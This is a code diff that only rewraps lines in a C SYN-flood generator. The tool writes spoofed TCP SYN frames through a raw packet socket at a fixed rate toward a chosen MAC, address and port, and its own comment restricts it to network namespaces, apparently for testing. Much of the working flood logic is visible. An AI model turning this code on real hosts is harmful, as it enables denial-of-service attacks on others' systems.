@@ -3,9 +3,10 @@
  *
  *   syn_flood INTERFACE MAC ADDRESS PORT RATE SECONDS
  *
- * Sources lie in 198.18.0.0/15, which RFC 2544 sets aside for such things. The SYNs are as a client's: checksums
- * right, with MSS, SACK, timestamps and window scale. At the end one line of JSON says what was sent, what was
- * refused because the interface's queue was full, and in how many seconds. For network namespaces only: it is an attack.
+ * Sources lie in 198.18.0.0/15, which RFC 2544 sets aside for such things. The SYNs are as a client's:
+ * checksums right, with MSS, SACK, timestamps and window scale. At the end one line of JSON says what was
+ * sent, what was refused because the interface's queue was full, and in how many seconds. For network
+ * namespaces only: it is an attack.
  */
 #include <arpa/inet.h>
 #include <errno.h>
@@ -34,7 +35,7 @@ enum {
 	FRAME = ETH + IP + TCP,
 	SOURCES = 0xc6120000, /* 198.18.0.0/15 */
 	SOURCE_MASK = 0x1ffff,
-	SLICE_NS = 1000000,   /* the rate is kept over a millisecond */
+	SLICE_NS = 1000000, /* the rate is kept over a millisecond */
 	SECOND_NS = 1000000000,
 };
 
@@ -72,7 +73,9 @@ static void fail(const char *what)
 
 static void make_frame(uint8_t *frame, const uint8_t mac[6], in_addr_t to, uint16_t port)
 {
-	static const uint8_t options[] = { 2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7 };
+	static const uint8_t options[] = {
+		2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7
+	};
 	uint8_t *ip = frame + ETH, *tcp = ip + IP;
 
 	memcpy(frame, mac, 6);
@@ -114,7 +117,8 @@ static void change_frame(struct flood *f, uint8_t *frame)
 	set_checksum(tcp + 16, checksum_add(checksum_add(0, pseudo, sizeof pseudo), ip + 12, 8), tcp, TCP);
 }
 
-static void flood_init(struct flood *f, const char *interface, const uint8_t mac[6], in_addr_t to, uint16_t port)
+static void flood_init(struct flood *f, const char *interface, const uint8_t mac[6], in_addr_t to,
+		       uint16_t port)
 {
 	int on = 1;
 
@@ -123,7 +127,8 @@ static void flood_init(struct flood *f, const char *interface, const uint8_t mac
 	f->fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0); /* protocol 0: it receives nothing */
 	if (f->fd < 0)
 		fail("socket");
-	f->to = (struct sockaddr_ll){ .sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(interface) };
+	f->to = (struct sockaddr_ll){ .sll_family = AF_PACKET,
+				      .sll_ifindex = (int)if_nametoindex(interface) };
 	if (f->to.sll_ifindex == 0)
 		fail(interface);
 	if (setsockopt(f->fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on) < 0)
@@ -131,8 +136,10 @@ static void flood_init(struct flood *f, const char *interface, const uint8_t mac
 	for (unsigned i = 0; i < BATCH; i++) {
 		make_frame(f->frames[i], mac, to, port);
 		f->iov[i] = (struct iovec){ f->frames[i], FRAME };
-		f->messages[i].msg_hdr = (struct msghdr){ .msg_name = &f->to, .msg_namelen = sizeof f->to,
-							  .msg_iov = &f->iov[i], .msg_iovlen = 1 };
+		f->messages[i].msg_hdr = (struct msghdr){ .msg_name = &f->to,
+							  .msg_namelen = sizeof f->to,
+							  .msg_iov = &f->iov[i],
+							  .msg_iovlen = 1 };
 	}
 }
 
@@ -146,8 +153,8 @@ static void send_batch(struct flood *f, unsigned count)
 		if (n > 0) {
 			done += (unsigned)n;
 			f->sent += (unsigned)n;
-		} else if (errno == ENOBUFS || errno == EAGAIN) { /* the interface's queue is full: that one is lost */
-			done++;
+		} else if (errno == ENOBUFS || errno == EAGAIN) {
+			done++; /* the interface's queue is full: that one is lost */
 			f->refused++;
 		} else if (errno != EINTR) {
 			fail("sendmmsg");
